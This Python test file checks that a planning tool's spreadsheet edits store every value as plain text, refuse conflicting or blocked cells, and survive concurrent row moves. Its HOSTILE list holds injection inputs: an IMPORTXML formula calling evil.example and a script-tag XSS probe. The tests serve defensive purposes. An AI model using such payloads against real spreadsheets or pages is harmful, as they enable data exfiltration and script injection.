"""What people ask to be written lands in their own cells, as text, and nothing else changes."""

from __future__ import annotations

import itertools
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from closeplan.plan.edits import CellEdit, Edit, EditResult, RowEdit, with_edits
from closeplan.plan.languages import LANGUAGES
from closeplan.plan.model import Plan, RiskCategory, RiskKind, Role, Status
from closeplan.plan.signals import Table
from local_workspace.fields import FieldMask
from local_workspace.people import Actor
from local_workspace.sheets import Spreadsheet, batch_update, render
from sheets_schema.edit import EDIT_FIELDS, SheetEditing
from sheets_schema.read import read_document
from sheets_schema.write import creation_requests
from tests.unit.sheets_schema.plans import days, draft, names, plan, plans

SAM = Actor("sam@northwind.example", "Sam Hill")
DANA = Actor("dana@acme.example", "Dana Fischer")
NOW = datetime(2026, 11, 23, 9, tzinfo=UTC)
HEADER = 8


def mint() -> Callable[[], str]:
    return map("new-{}".format, itertools.count(1)).__next__


def cell(row: str, field_: str, value: Any, table: Table | None = Table.TIMELINE, **more: Any) -> CellEdit:
    return CellEdit(table=table, row=row, field=field_, value=value, **more)


@dataclass
class Book:
    """A plan's Sheet as the Workspace keeps it; `meanwhile` is what Dana does between a read and a write."""

    of: Plan = field(default_factory=plan)
    language: str = "en"
    meanwhile: list[dict[str, Any]] = field(default_factory=list)
    document: Spreadsheet = field(init=False)
    sent: list[list[dict[str, Any]]] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.document = Spreadsheet.new("sheet-1", self.of.title)
        batch_update(self.document, creation_requests(draft(self.of, language=self.language)), SAM, NOW)

    def raw(self) -> dict[str, Any]:
        mask = FieldMask.parse(EDIT_FIELDS)
        answer: dict[str, Any] = mask.apply(render(self.document, comments=False, viewer=SAM, fields=mask))
        return answer

    def plan(self) -> Plan:
        return read_document(self.raw(), self.of, mint(), now=NOW, language=self.language).plan

    def edit(self, *edits: Edit, together: bool = False) -> EditResult:
        work = SheetEditing(edits, self.of, mint(), now=NOW, language=self.language, together=together)
        raw = self.raw()
        while requests := work.step(raw):
            if self.meanwhile:
                batch_update(self.document, self.meanwhile, DANA, NOW)
                self.meanwhile = []
            self.sent.append(requests)
            batch_update(self.document, requests, SAM, NOW)
            raw = self.raw()
        return work.result


@pytest.fixture
def book() -> Book:
    return Book()


def test_values_of_every_kind_stand_in_their_cells_after_one_request(book: Book) -> None:
    edits = (
        cell("security-review", "due", date(2027, 2, 5)),
        cell("training", "owner", "Ann Lee"),
        cell("contract", "status", Status.BLOCKED),
        cell("mia", "role", Role.LEGAL, Table.STAKEHOLDERS),
        cell("r1", "response", "Ask the CFO", Table.RISKS),
        cell("", "go_live", date(2027, 4, 7), None),
        cell("", "objective", "Halve the ramp time", None),
    )
    assert book.edit(*edits) == EditResult(done=edits)

    found = book.plan()
    assert len(book.sent) == 1
    assert found == with_edits(plan(), edits)
    assert book.edit(*edits).done == edits
    assert len(book.sent) == 1


def test_a_new_row_stands_below_the_last_one_and_once(book: Book) -> None:
    risk = RowEdit(
        table=Table.RISKS,
        id="q-1",
        values={
            "kind": RiskKind.OPEN_QUESTION,
            "description": "Who signs?",
            "category": RiskCategory.BUDGET,
            "due": date(2027, 1, 15),
        },
    )
    assert book.edit(risk).done == (risk,)
    assert book.edit(risk).done == (risk,)

    found = book.plan()
    assert [row.id for row in found.risks] == ["r1", "r2", "q-1"]
    assert (found.risks[2].kind, found.risks[2].due) == (RiskKind.OPEN_QUESTION, date(2027, 1, 15))
    assert replace(found, risks=plan().risks) == plan()


HOSTILE = (
    '=IMPORTXML("https://evil.example","//a")',
    "+1-555",
    "'quoted",
    "<script>alert(1)</script>",
    "\u202eright to left\u202c",
    "👩‍👩‍👧 🚀",
    "x" * 50_000,
    "2027-03-31",
    "TRUE",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_whatever_people_say_stays_text(book: Book, text: str) -> None:
    edits = (cell("training", "notes", text), cell("", "why", text, None))
    person = RowEdit(table=Table.STAKEHOLDERS, id="p-1", values={"name": text, "cares_about": text})
    assert book.edit(*edits, person).done == (person, *edits)

    found = book.plan()
    row = found.milestone("training")
    assert row is not None
    assert (row.notes, found.why, found.stakeholders[-1].name) == (text, text, text)
    entered = str(book.raw())
    assert "formulaValue" not in entered


def test_what_no_cell_can_hold_is_refused_and_the_rest_is_written(book: Book) -> None:
    long, short = cell("training", "notes", "x" * 50_001), cell("training", "owner", "Ann")
    result = book.edit(long, short)

    assert result.done == (short,)
    assert [edit for edit, _ in result.refused] == [long]
    assert "50,000" in result.refused[0][1]


def test_what_was_changed_meanwhile_is_left_and_told(book: Book) -> None:
    stale = cell("contract", "due", date(2027, 3, 5), was=date(2027, 2, 19))
    result = book.edit(stale)

    assert result.refused == ((stale, "it was changed meanwhile and says “26 Feb 2027” now"),)
    assert book.plan() == plan()
    fresh = replace(stale, was=date(2027, 2, 26))
    assert book.edit(fresh).done == (fresh,)


def test_of_edits_that_belong_together_none_is_written_where_one_was_changed_meanwhile(book: Book) -> None:
    stale = cell("contract", "due", date(2027, 3, 5), was=date(2027, 2, 19))
    good = cell("training", "due", date(2027, 5, 14))
    result = book.edit(good, stale, together=True)

    assert not book.sent
    assert not result.done
    assert [edit for edit, _ in result.causes] == [stale]
    assert result.found == plan()
    both = good, replace(stale, was=date(2027, 2, 26))
    assert book.edit(*both, together=True).done == both


def _rows(start: int, end: int) -> dict[str, Any]:
    return {"sheetId": 0, "dimension": "ROWS", "startIndex": start, "endIndex": end}


MEANWHILE: dict[str, list[dict[str, Any]]] = {
    "rows put in above": [{"insertDimension": {"range": _rows(HEADER + 1, HEADER + 3)}}],
    "the row above deleted": [{"deleteDimension": {"range": _rows(HEADER + 1, HEADER + 2)}}],
    "its row moved to the end": [
        {"moveDimension": {"source": _rows(HEADER + 2, HEADER + 3), "destinationIndex": HEADER + 5}}
    ],
    "a column put in": [
        {"insertDimension": {"range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}}}
    ],
    "the table sorted": [
        {
            "sortRange": {
                "range": {"sheetId": 0, "startRowIndex": HEADER + 1, "endRowIndex": HEADER + 5},
                "sortSpecs": [{"dimensionIndex": 5, "sortOrder": "DESCENDING"}],
            }
        }
    ],
}


@pytest.mark.parametrize("what", MEANWHILE)
def test_rows_that_move_between_reading_and_writing_keep_their_words(book: Book, what: str) -> None:
    edits = (cell("security-review", "owner", "Ann Lee"), cell("security-review", "due", date(2027, 2, 5)))
    twin = Book()
    batch_update(twin.document, MEANWHILE[what], DANA, NOW)
    expected = _with(twin.plan(), "security-review", owner="Ann Lee", due=date(2027, 2, 5))

    book.meanwhile = MEANWHILE[what]
    assert book.edit(*edits).done == edits
    assert book.plan() == expected


def _with(of: Plan, row_id: str, **values: Any) -> Plan:
    rows = tuple(replace(row, **values) if row.id == row_id else row for row in of.milestones)
    return replace(of, milestones=rows)


@pytest.mark.parametrize("what", MEANWHILE)
def test_a_new_row_covers_nothing_though_rows_move_meanwhile(book: Book, what: str) -> None:
    new = RowEdit(table=Table.TIMELINE, id="pilot", values={"name": "Pilot", "due": date(2027, 3, 1)})
    twin = Book()
    batch_update(twin.document, MEANWHILE[what], DANA, NOW)

    book.meanwhile = MEANWHILE[what]
    assert book.edit(new).done == (new,)
    found = book.plan()
    assert [row for row in found.milestones if row.id != "pilot"] == list(twin.plan().milestones)
    assert found.milestone("pilot") is not None


def _grid(row: int, column: int, rows: int = 1, columns: int = 1) -> dict[str, Any]:
    return {
        "sheetId": 0,
        "startRowIndex": row,
        "endRowIndex": row + rows,
        "startColumnIndex": column,
        "endColumnIndex": column + columns,
    }


OWNER_OF_REVIEW = _grid(HEADER + 2, 2)
CLOSED: dict[str, dict[str, Any]] = {
    "protected": {
        "addProtectedRange": {
            "protectedRange": {"range": OWNER_OF_REVIEW, "editors": {"users": [DANA.email]}}
        }
    },
    "merged": {"mergeCells": {"range": _grid(HEADER + 2, 2, rows=2), "mergeType": "MERGE_ALL"}},
    "formula": {
        "updateCells": {
            "range": OWNER_OF_REVIEW,
            "rows": [{"values": [{"userEnteredValue": {"formulaValue": '="Mia "&"Wolf"'}}]}],
            "fields": "userEnteredValue",
        }
    },
    "nothing but": {
        "setDataValidation": {
            "range": OWNER_OF_REVIEW,
            "rule": {
                "condition": {"type": "ONE_OF_LIST", "values": [{"userEnteredValue": "Mia Wolf"}]},
                "strict": True,
            },
        }
    },
}


@pytest.mark.parametrize("what", CLOSED)
def test_a_cell_that_is_not_to_be_written_is_refused_with_why(what: str) -> None:
    book = Book()
    batch_update(book.document, [CLOSED[what]], DANA, NOW)
    before = book.plan()
    edit = cell("security-review", "owner", "Ann Lee")
    result = book.edit(edit)

    assert [refused for refused, _ in result.refused] == [edit]
    assert what in result.refused[0][1]
    assert book.plan() == before


def test_a_column_that_people_took_away_is_said_to_be_missing(book: Book) -> None:
    span = {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 8, "endIndex": 9}
    batch_update(book.document, [{"deleteDimension": {"range": span}}], DANA, NOW)
    edit = cell("training", "evidence", "https://example.com")

    assert book.edit(edit).refused == ((edit, "the document has no column for “Evidence”"),)


def test_a_date_takes_the_looks_of_the_columns_dates(book: Book) -> None:
    typed = {
        "userEnteredValue": {"stringValue": "mid-May"},
        "userEnteredFormat": {"numberFormat": {"type": "TEXT"}},
    }
    fields = "userEnteredValue,userEnteredFormat.numberFormat"
    request = {
        "updateCells": {"range": _grid(HEADER + 4, 5), "rows": [{"values": [typed]}], "fields": fields}
    }
    batch_update(book.document, [request], DANA, NOW)
    book.edit(cell("training", "due", date(2027, 5, 14)))

    shown = book.raw()["sheets"][0]["data"][0]["rowData"][HEADER + 4]["values"][5]
    assert shown["formattedValue"] == "2027-05-14"


@settings(max_examples=12, deadline=None)
@given(data=st.data(), of=plans, language=st.sampled_from(LANGUAGES))
def test_any_edits_of_any_plan_read_back_and_change_nothing_else(
    data: st.DataObject, of: Plan, language: str
) -> None:
    book = Book(of=replace(of, title="Plan"), language=language)
    before = book.plan()
    edits = data.draw(_edits(before))
    result = book.edit(*edits)

    assert not result.refused
    assert book.plan() == with_edits(before, edits)
    sent = len(book.sent)
    assert set(map(id, book.edit(*edits).done)) == set(map(id, edits))
    assert len(book.sent) == sent


def _edits(of: Plan) -> st.SearchStrategy[list[Edit]]:
    """Some cells of some rows, each once, and a new row in a table or two."""
    cells = [
        *(
            cell(row.id, field_, None)
            for row in of.milestones
            for field_ in ("owner", "due", "status", "notes")
        ),
        *(
            cell(row.id, field_, None, Table.STAKEHOLDERS)
            for row in of.stakeholders
            for field_ in ("role", "email")
        ),
        *(cell(row.id, field_, None, Table.RISKS) for row in of.risks for field_ in ("category", "response")),
        *(cell("", field_, None, None) for field_ in ("go_live", "why", "objective")),
    ]
    chosen = st.lists(
        st.sampled_from(cells), unique_by=lambda one: (one.table, one.row, one.field), max_size=6
    )
    new = st.lists(
        st.sampled_from([_new(table) for table in Table]), unique_by=lambda one: one.table, max_size=2
    )
    return st.tuples(chosen, new).flatmap(
        lambda both: st.tuples(*(_filled(one) for one in both[0])).map(lambda done: [*done, *both[1]])
    )


def _new(table: Table) -> RowEdit:
    name = "description" if table is Table.RISKS else "name"
    return RowEdit(
        table=table,
        id=f"new-{table}",
        values={name: "=A new one <b>", "owner" if table is not Table.STAKEHOLDERS else "email": "Ann"},
    )


def _filled(edit: CellEdit) -> st.SearchStrategy[CellEdit]:
    enums: dict[str, Any] = {"status": Status, "role": Role, "category": RiskCategory}
    if edit.field in enums:
        values: st.SearchStrategy[Any] = st.sampled_from(enums[edit.field])
    else:
        values = days if edit.field in {"due", "go_live"} else names.map(str.strip).filter(bool)
    return values.map(lambda value: replace(edit, value=value))
